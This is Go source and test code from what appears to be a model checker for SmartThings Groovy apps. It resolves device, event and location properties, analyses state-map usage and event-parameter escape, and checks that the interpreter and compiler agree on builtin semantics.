		sep := argStr(args, 0)
		if sep == "" {
			sep = " "
		}
		parts := strings.Split(s, sep)
		out := make([]ir.Value, len(parts))
		for i, p := range parts {
			out[i] = ir.StrV(p)
		}
		return ir.ListV(out), nil
	case "substring":
		if len(args) == 1 {
			i := int(args[0].AsInt())
			if i >= 0 && i <= len(s) {
				return ir.StrV(s[i:]), nil
			}
		}
		if len(args) == 2 {
			i, j := int(args[0].AsInt()), int(args[1].AsInt())
			if i >= 0 && j >= i && j <= len(s) {
				return ir.StrV(s[i:j]), nil
			}
		}
		return ir.StrV(""), nil
	case "size", "length":
		return ir.IntV(int64(len(s))), nil
	case "toString":
		return recv, nil
	case "format":
		return recv, nil
	}
	return ir.NullV(), &ExecError{App: appName, Pos: x.Pos,
		Msg: fmt.Sprintf("unsupported string method %q", x.Name)}
}

// propertyOfValue resolves a property on a concrete value: device
// attribute reads, event fields, collection pseudo-properties.
func propertyOfValue(host Host, recv ir.Value, name string, pos groovy.Pos) (ir.Value, error) {
	switch recv.Kind {
	case ir.VDevice:
		return devicePropertyOf(host, recv.Dev, name)
	case ir.VDevices:
		// Reading an attribute from a multi-device input returns the
		// first device's value (SmartThings' common-usage shortcut) —
		// except pseudo-properties.
		switch name {
		case "size":
			return ir.IntV(int64(len(recv.L))), nil
		}
		if len(recv.L) == 1 {
			return propertyOfValue(host, recv.L[0], name, pos)
		}
		var out []ir.Value
		for _, d := range recv.L {
			v, err := propertyOfValue(host, d, name, pos)
			if err != nil {
				return ir.NullV(), err
			}
			out = append(out, v)
		}
		return ir.ListV(out), nil
	case ir.VMap:
		if v, ok := recv.M[name]; ok {
			return v, nil
		}
		switch name {
		case "size":
			return ir.IntV(int64(len(recv.M))), nil
		case "numericValue", "doubleValue", "floatValue", "integerValue":
			// Event objects carry value as string; coerce on demand.
			if v, ok := recv.M["value"]; ok {
				if n, okk := parseNumeric(v.String()); okk {
					return n, nil
				}
			}
		}
		return ir.NullV(), nil
	case ir.VList:
		switch name {
		case "size":
			return ir.IntV(int64(len(recv.L))), nil
		case "first":
			if len(recv.L) > 0 {
				return recv.L[0], nil
			}
			return ir.NullV(), nil
		case "last":
			if len(recv.L) > 0 {
				return recv.L[len(recv.L)-1], nil
			}
			return ir.NullV(), nil
		case "empty":
			return ir.BoolV(len(recv.L) == 0), nil
		}
		return ir.NullV(), nil
	case ir.VStr:
		switch name {
		case "length", "size":
			return ir.IntV(int64(len(recv.S))), nil
		case "value":
			return recv, nil
		}
		return ir.NullV(), nil
	case ir.VInt, ir.VNum:
		if name == "value" {
			return recv, nil
		}
		return ir.NullV(), nil
	}
	return ir.NullV(), nil
}

// devicePropertyOf resolves device attribute reads: currentX, xState,
// label/displayName, id.
func devicePropertyOf(host Host, dev int, name string) (ir.Value, error) {
	switch name {
	case "displayName", "label", "name":
		return ir.StrV(host.DeviceLabel(dev)), nil
	case "id", "deviceNetworkId":
		return ir.StrV(fmt.Sprintf("dev-%d", dev)), nil
	}
	if strings.HasPrefix(name, "current") && len(name) > len("current") {
		attr := name[len("current"):]
		attr = strings.ToLower(attr[:1]) + attr[1:]
		if v, ok := host.DeviceAttr(dev, attr); ok {
			return v, nil
		}
		return ir.NullV(), nil
	}
	if strings.HasSuffix(name, "State") && len(name) > len("State") {
		attr := name[:len(name)-len("State")]
		if v, ok := host.DeviceAttr(dev, attr); ok {
			return ir.MapV(map[string]ir.Value{
				"value": toStringValue(v),
				"name":  ir.StrV(attr),
				"date":  ir.IntV(host.Now()),
			}), nil
		}
		return ir.NullV(), nil
	}
	// Direct attribute name (device.temperature style).
	if v, ok := host.DeviceAttr(dev, name); ok {
		return v, nil
	}
	return ir.NullV(), nil
}

// locationPropertyOf resolves properties of the location object.
func locationPropertyOf(host Host, name string) (ir.Value, error) {
	switch name {
	case "mode", "currentMode":
		return ir.StrV(host.LocationMode()), nil
	case "modes":
		modes := host.Modes()
		out := make([]ir.Value, len(modes))
		for i, m := range modes {
			out[i] = ir.StrV(m)
		}
		return ir.ListV(out), nil
	case "name":
		return ir.StrV("Home"), nil
	case "timeZone":
		return ir.StrV("UTC"), nil
	}
	return ir.NullV(), nil
}

// eventValueOf builds the evt object delivered to handlers.
func eventValueOf(host Host, evt *Event) ir.Value {
	if evt == nil {
		return ir.NullV()
	}
	m := map[string]ir.Value{
		"name":          ir.StrV(evt.Name),
		"value":         toStringValue(evt.Value),
		"displayName":   ir.StrV(evt.DisplayName),
		"isStateChange": ir.BoolV(true),
		"date":          ir.IntV(host.Now()),
	}
	if evt.Value.IsNumeric() {
		m["numericValue"] = evt.Value
		m["doubleValue"] = ir.NumV(evt.Value.AsFloat())
		m["integerValue"] = ir.IntV(evt.Value.AsInt())
	}
	if evt.Device >= 0 {
		m["device"] = ir.DeviceV(evt.Device)
		m["deviceId"] = ir.StrV(host.DeviceLabel(evt.Device))
	}
	return ir.MapV(m)
}

// eventProp reads one property of the event object without materializing
// its map. It must stay observationally identical to
// propertyOfValue(eventValueOf(host, evt), name): compiled handlers
// whose event parameter never escapes use it on the hot path.
func eventProp(host Host, evt *Event, name string) ir.Value {
	switch name {
	case "name":
		return ir.StrV(evt.Name)
	case "value":
		return toStringValue(evt.Value)
	case "displayName":
		return ir.StrV(evt.DisplayName)
	case "isStateChange":
		return ir.BoolV(true)
	case "date":
		return ir.IntV(host.Now())
	case "numericValue":
		if evt.Value.IsNumeric() {
			return evt.Value
		}
	case "doubleValue":
		if evt.Value.IsNumeric() {
			return ir.NumV(evt.Value.AsFloat())
		}
	case "integerValue":
		if evt.Value.IsNumeric() {
			return ir.IntV(evt.Value.AsInt())
		}
	case "floatValue":
		// Not a key of the event map: always the coercion fallback.
	case "device":
		if evt.Device >= 0 {
			return ir.DeviceV(evt.Device)
		}
		return ir.NullV()
	case "deviceId":
		if evt.Device >= 0 {
			return ir.StrV(host.DeviceLabel(evt.Device))
		}
		return ir.NullV()
	case "size":
		n := 5
		if evt.Value.IsNumeric() {
			n += 3
		}
		if evt.Device >= 0 {
			n += 2
		}
		return ir.IntV(int64(n))
	default:
		return ir.NullV()
	}
	// The numeric pseudo-properties of a non-numeric event coerce from
	// the string value on demand (the VMap fallback path).
	if n, ok := parseNumeric(toStringValue(evt.Value).String()); ok {
		return n
	}
	return ir.NullV()
}
