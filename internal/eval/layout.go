package eval

import (
	"sort"

	"iotsan/internal/groovy"
	"iotsan/internal/ir"
)

// StateLayout statically analyzes an app's use of the persistent state
// map. When every access is a literal-key property read or write
// (state.x / state.x = v — the overwhelmingly common SmartThings
// idiom), it returns the sorted key set and ok=true: the model can then
// lay the app's state out as a fixed slot array instead of a map, which
// makes state access, cloning, and state-vector encoding cheaper and
// sort-free. Any dynamic use (bare `state` as a value, state[expr],
// method calls on state, or shadowing declarations) returns ok=false
// and the app keeps its KV map.
func StateLayout(app *ir.App) (keys []string, ok bool) {
	isState := func(name string) bool { return name == "state" || name == "atomicState" }

	// First pass: mark the exact Ident nodes that appear as property
	// receivers of state — those are the slot-compatible accesses.
	accounted := map[*groovy.Ident]bool{}
	keySet := map[string]bool{}
	for _, m := range app.Methods {
		groovy.Walk(m, func(n groovy.Node) bool {
			if p, isProp := n.(*groovy.PropertyExpr); isProp {
				if id, isID := p.Recv.(*groovy.Ident); isID && isState(id.Name) && !p.Spread {
					accounted[id] = true
					keySet[p.Name] = true
				}
			}
			return true
		})
	}

	// Second pass: any other occurrence of the name — bare value use,
	// index/call receiver, shadowing declaration — is dynamic.
	dynamic := false
	for _, m := range app.Methods {
		for _, prm := range m.Params {
			if isState(prm.Name) {
				dynamic = true
			}
		}
		groovy.Walk(m, func(n groovy.Node) bool {
			switch x := n.(type) {
			case *groovy.Ident:
				if isState(x.Name) && !accounted[x] {
					dynamic = true
				}
			case *groovy.VarDeclStmt:
				if isState(x.Name) {
					dynamic = true
				}
			case *groovy.ForInStmt:
				if isState(x.Var) {
					dynamic = true
				}
			case *groovy.ClosureExpr:
				for _, prm := range x.Params {
					if isState(prm.Name) {
						dynamic = true
					}
				}
			}
			return true
		})
	}
	if dynamic {
		return nil, false
	}
	keys = make([]string, 0, len(keySet))
	for k := range keySet {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys, true
}

// evtDirectMethods computes the set of methods eligible for direct
// event access: the method's first parameter provably never escapes
// (every occurrence is a non-spread property-read receiver), has no
// default, and the method is never the target of a direct call from any
// method body (direct calls would pass plain values where the compiled
// body reads the live event). Timer and subscription dispatch always
// arrives through CallHandler, which supplies a real event, so
// name-string references (runIn etc.) stay safe.
func evtDirectMethods(app *ir.App) map[string]bool {
	called := map[string]bool{}
	for _, m := range app.Methods {
		groovy.Walk(m, func(n groovy.Node) bool {
			if c, isCall := n.(*groovy.CallExpr); isCall && c.Recv == nil {
				called[c.Name] = true
			}
			return true
		})
	}

	out := map[string]bool{}
	for name, m := range app.Methods {
		if len(m.Params) == 0 || m.Params[0].Default != nil || called[name] {
			continue
		}
		if paramNonEscaping(m, m.Params[0].Name) {
			out[name] = true
		}
	}
	return out
}

// paramNonEscaping reports whether every occurrence of the named
// parameter inside the method body is a plain property-read receiver.
func paramNonEscaping(m *groovy.MethodDecl, name string) bool {
	accounted := map[*groovy.Ident]bool{}
	groovy.Walk(m, func(n groovy.Node) bool {
		if p, isProp := n.(*groovy.PropertyExpr); isProp && !p.Spread {
			if id, isID := p.Recv.(*groovy.Ident); isID && id.Name == name {
				accounted[id] = true
			}
		}
		return true
	})
	escaping := false
	groovy.Walk(m, func(n groovy.Node) bool {
		switch x := n.(type) {
		case *groovy.Ident:
			if x.Name == name && !accounted[x] {
				escaping = true
			}
		case *groovy.VarDeclStmt:
			if x.Name == name {
				escaping = true
			}
		case *groovy.ForInStmt:
			if x.Var == name {
				escaping = true
			}
		case *groovy.ClosureExpr:
			for _, prm := range x.Params {
				if prm.Name == name {
					escaping = true
				}
			}
		case *groovy.AssignStmt:
			if id, isID := x.LHS.(*groovy.Ident); isID && id.Name == name {
				escaping = true
			}
		}
		return true
	})
	return !escaping
}
