package eval

import (
	"testing"

	"iotsan/internal/ir"
	"iotsan/internal/smartapp"
)

// Differential pinning of the builtin edge cases POR's read/write-set
// extraction leans on (builtins.go serves both engines, so a semantic
// drift between the closure compiler and the tree-walking oracle here
// would skew every footprint-derived independence decision): integer
// division, string coercion in comparisons, and null-propagating
// attribute access.

// TestBuiltinsDifferentialIntegerDivision: Groovy-style division — int/int
// divides exactly when even, intdiv truncates, mixed operands promote —
// must agree between the interpreter and the compiled programs.
func TestBuiltinsDifferentialIntegerDivision(t *testing.T) {
	onEvt := &Event{Device: 0, Name: "switch", Value: ir.StrV("on")}
	sw := map[string]ir.Value{"sw": ir.DeviceV(0)}

	ih, ch := runBoth(t, header+`
def h(evt) {
    state.even = 8 / 2
    state.odd = 7 / 2
    state.trunc = 7.intdiv(2)
    state.negTrunc = (-7).intdiv(2)
    state.mixed = 7 / 2.0
    state.modulo = 7 % 3
    state.chain = (9 / 3).intdiv(2)
}
`, "h", onEvt, sw)
	for _, host := range []*fakeHost{ih, ch} {
		if got := host.state["trunc"].AsInt(); got != 3 {
			t.Errorf("7.intdiv(2) = %v, want 3", got)
		}
		if got := host.state["even"].AsInt(); got != 4 {
			t.Errorf("8 / 2 = %v, want 4", got)
		}
		if got := host.state["modulo"].AsInt(); got != 1 {
			t.Errorf("7 %% 3 = %v, want 1", got)
		}
	}
}

// TestBuiltinsDifferentialStringCoercion: comparisons coerce numeric
// strings (sensor values arrive as strings) identically in both
// engines — equality, ordering, and the truthiness that conditions
// branch on.
func TestBuiltinsDifferentialStringCoercion(t *testing.T) {
	sw := map[string]ir.Value{"sw": ir.DeviceV(0)}

	runBoth(t, header+`
def h(evt) {
    state.eqNum = evt.value == 150
    state.eqStr = evt.value == "150"
    state.gt = evt.value > 100
    state.lt = evt.value < 200
    state.strOrd = "abc" < "abd"
    state.numStr = 5 == "5"
    state.concat = "v=" + evt.value + 1
    if (evt.value > limit) { sw.off() }
}
`, "h", &Event{Device: 0, Name: "power", Value: ir.StrV("150")},
		map[string]ir.Value{"sw": ir.DeviceV(0), "limit": ir.IntV(100)})

	runBoth(t, header+`
def h(evt) {
    state.empty = "" ? "truthy" : "falsy"
    state.zeroStr = "0" ? "truthy" : "falsy"
    state.cmpCase = "ON" == "on"
    state.ci = "ON".toLowerCase() == "on"
}
`, "h", &Event{Device: 0, Name: "switch", Value: ir.StrV("on")}, sw)
}

// TestBuiltinsDifferentialNullPropagation: attribute access through
// null receivers (unbound optional inputs, missing map keys, null
// event fields) must null-propagate — not error — identically in both
// engines, including through method calls and further member access.
func TestBuiltinsDifferentialNullPropagation(t *testing.T) {
	onEvt := &Event{Device: 0, Name: "switch", Value: ir.StrV("on")}
	// "maybe" is deliberately left unbound: it reads as null.
	sw := map[string]ir.Value{"sw": ir.DeviceV(0)}

	ih, ch := runBoth(t, header+`
def h(evt) {
    state.a = maybe.currentSwitch
    state.b = maybe?.currentSwitch
    state.c = state.missing
    state.d = state.missing ?: "fallback"
    def m = [x: 1]
    state.e = m.nothere
    state.f = m.nothere ?: 9
    if (maybe) { state.g = "bound" } else { state.g = "unbound" }
}
`, "h", onEvt, sw)
	for _, host := range []*fakeHost{ih, ch} {
		if got := host.state["d"].String(); got != "fallback" {
			t.Errorf("elvis over null state read = %q, want \"fallback\"", got)
		}
		if got := host.state["g"].String(); got != "unbound" {
			t.Errorf("null input truthiness = %q, want \"unbound\"", got)
		}
		if host.state["a"].Kind != ir.VNull || host.state["b"].Kind != ir.VNull {
			t.Errorf("null attribute access: a=%v b=%v, want null", host.state["a"], host.state["b"])
		}
	}
}

// TestAppEffectsTaintMechanics: regression fixtures for the symmetry
// certificate's taint plumbing — the visited-guard signature must not
// collide across methods, and settings-qualified input references must
// resolve through the unshadowable input set.
func TestAppEffectsTaintMechanics(t *testing.T) {
	app, err := smartapp.Translate(header + `
def h(evt) {
    f0()
    f(1)
}
def f0() { state.a = 1 }
def f(x) { sws.off() }
def shadowed(evt) { helper(1) }
def helper(sws) { state.x = settings.sws[0].currentSwitch }
`)
	if err != nil {
		t.Fatal(err)
	}
	eff := AppEffects(app)

	h := eff["h"]
	if h == nil || h.Unknown {
		t.Fatalf("h: effects missing or unknown: %+v", h)
	}
	if !h.Commands || !h.WriteAttrs["switch"] {
		// A "f0"/"f"+taint-digit signature collision would skip f's walk
		// and silently drop its command footprint.
		t.Errorf("h: commands=%v writes=%v, want f's off() command recorded", h.Commands, h.WriteAttrs)
	}

	s := eff["shadowed"]
	if s == nil || s.Unknown {
		t.Fatalf("shadowed: effects missing or unknown: %+v", s)
	}
	if !s.DeviceIdentity {
		// The helper's parameter shares the input's name; the
		// settings-qualified reference must stay tainted regardless.
		t.Error("shadowed: settings.sws[0] into state must set DeviceIdentity")
	}
}

// TestAppEffectsExtraction: the compile-time footprints POR consumes.
func TestAppEffectsExtraction(t *testing.T) {
	app, err := smartapp.Translate(header + `
def h(evt) {
    if (sw.currentSwitch == "on" && location.mode == "Home") {
        sws.off()
        helper()
    }
}
def helper() {
    sendPush("x")
    runIn(60, later)
}
def later() { state.done = true }
def pure(evt) { state.n = (state.n ?: 0) + 1 }
def dyn(evt) { state.x = sw.currentValue(evt.name) }
`)
	if err != nil {
		t.Fatal(err)
	}
	eff := AppEffects(app)

	h := eff["h"]
	if h == nil || h.Unknown {
		t.Fatalf("h: effects missing or unknown: %+v", h)
	}
	if !h.ReadAttrs["switch"] || !h.ReadsMode {
		t.Errorf("h: reads = %v mode=%v, want switch + mode", h.ReadAttrs, h.ReadsMode)
	}
	if !h.Commands || !h.WriteAttrs["switch"] {
		t.Errorf("h: commands=%v writes=%v, want the off() command on switch", h.Commands, h.WriteAttrs)
	}
	if !h.Notifies || !h.Schedules {
		t.Errorf("h: transitive helper effects lost: notifies=%v schedules=%v", h.Notifies, h.Schedules)
	}
	if h.PureLocal() {
		t.Error("h issues commands; must not be pure-local")
	}

	p := eff["pure"]
	if p == nil || !p.PureLocal() || p.Unknown {
		t.Fatalf("pure: want pure-local effects, got %+v", p)
	}

	l := eff["later"]
	if l == nil || !l.PureLocal() {
		t.Fatalf("later: state-only timer callback must be pure-local, got %+v", l)
	}

	d := eff["dyn"]
	if d == nil || !d.Unknown {
		t.Fatalf("dyn: dynamic attribute name must defeat the analysis, got %+v", d)
	}
}
